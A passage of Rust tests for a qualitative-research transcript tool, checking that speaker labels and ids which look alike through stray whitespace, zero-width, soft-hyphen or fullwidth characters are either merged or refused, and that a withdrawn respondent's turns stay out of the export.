            r.stderr.contains("`[fg:5]` is not an excerpt id"),
            "{args:?}: {}",
            r.stderr
        );
    }
}

#[test]
fn labels_and_ids_that_read_the_same_are_one_or_refused() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    // Her label with a doubled space and a tab: still hers, withheld.
    .file(
        "transcripts/fg.txt",
        "---\nspeakers: {Ana María: R05, Luis: R03}\n---\nModerator: Q?\nLuis: The police came.\n\nAna  María: KANGAROO the police beat me.\n\nAna\tMaría: WOMBAT the police left.\n",
    )
    .file("thematic.yaml", "withdrawn: [R05]\n");
    s.run(&["code"]).ok();
    let out = s.run(&["export", "--format", "csv"]).ok().to_string();
    assert!(
        !out.contains("KANGAROO") && !out.contains("WOMBAT"),
        "{out}"
    );
    // Two labels that read the same mapped to two ids: refused.
    s.replace(
        "transcripts/fg.txt",
        "{Ana María: R05, Luis: R03}",
        "{\"luis\": R05, Luis: R03}",
    );
    let err = s.run(&["code"]).bad_input().to_string();
    assert!(
        err.contains("a label that reads the same to `R05`: a turn could not be told apart"),
        "{err}"
    );
    // An id with a character that shows nothing: refused, with the id.
    s.replace(
        "transcripts/fg.txt",
        "{\"luis\": R05, Luis: R03}",
        "{Luis: \"R0\u{200b}3\"}",
    );
    let err = s.run(&["code"]).bad_input().to_string();
    assert!(
        err.contains("it reads as `R03`") && err.contains("= help: write `R03`"),
        "{err}"
    );
    // Caption voices in thematic.yaml likewise.
    s.file(
        "transcripts/ep01.vtt",
        "WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Alma>The police came.\n",
    )
    .file(
        "transcripts/fg.txt",
        "Moderator: Q?\nLuis: The police came.\n",
    )
    .file(
        "thematic.yaml",
        "speakers: {transcripts/ep01.vtt: {\"Al\u{ad}ma\": R01, alma: R02}}\n",
    );
    let err = s.run(&["code"]).bad_input().to_string();
    assert!(err.contains("which reads the same, to `R02`"), "{err}");
}

#[test]
fn look_alike_ids_are_told_and_a_withdrawal_of_one_of_them_is_refused() {
    let s = Study::empty();
    s.file(
        "codebooks/main.yaml",
        "codebook: X\nthemes:\n  - id: harm\n    label: Harm\n    codes:\n      - id: violence\n        label: Violence\n        match: {any: [police]}\n",
    )
    .file("transcripts/a.txt", "---\nrespondent: R01\n---\nI: Q?\nR01: The police came.\n")
    .file(
        "transcripts/b.txt",
        "---\nrespondent: \"\u{ff32}\u{ff10}\u{ff11}\"\n---\nI: Q?\n\u{ff32}\u{ff10}\u{ff11}: KANGAROO the police.\n",
    );
    let code = s.run(&["code"]);
    code.ok();
    assert!(
        code.stderr.contains(
            "respondents `R01`, `\u{ff32}\u{ff10}\u{ff11}` look the same but are different ids"
        ),
        "{}",
        code.stderr
    );
    s.file("thematic.yaml", "withdrawn: [R01]\n");
    let err = s.run(&["code"]).bad_input().to_string();
    assert!(
        err.contains("look the same, but only `R01` withdrew consent"),
        "{err}"
    );
}
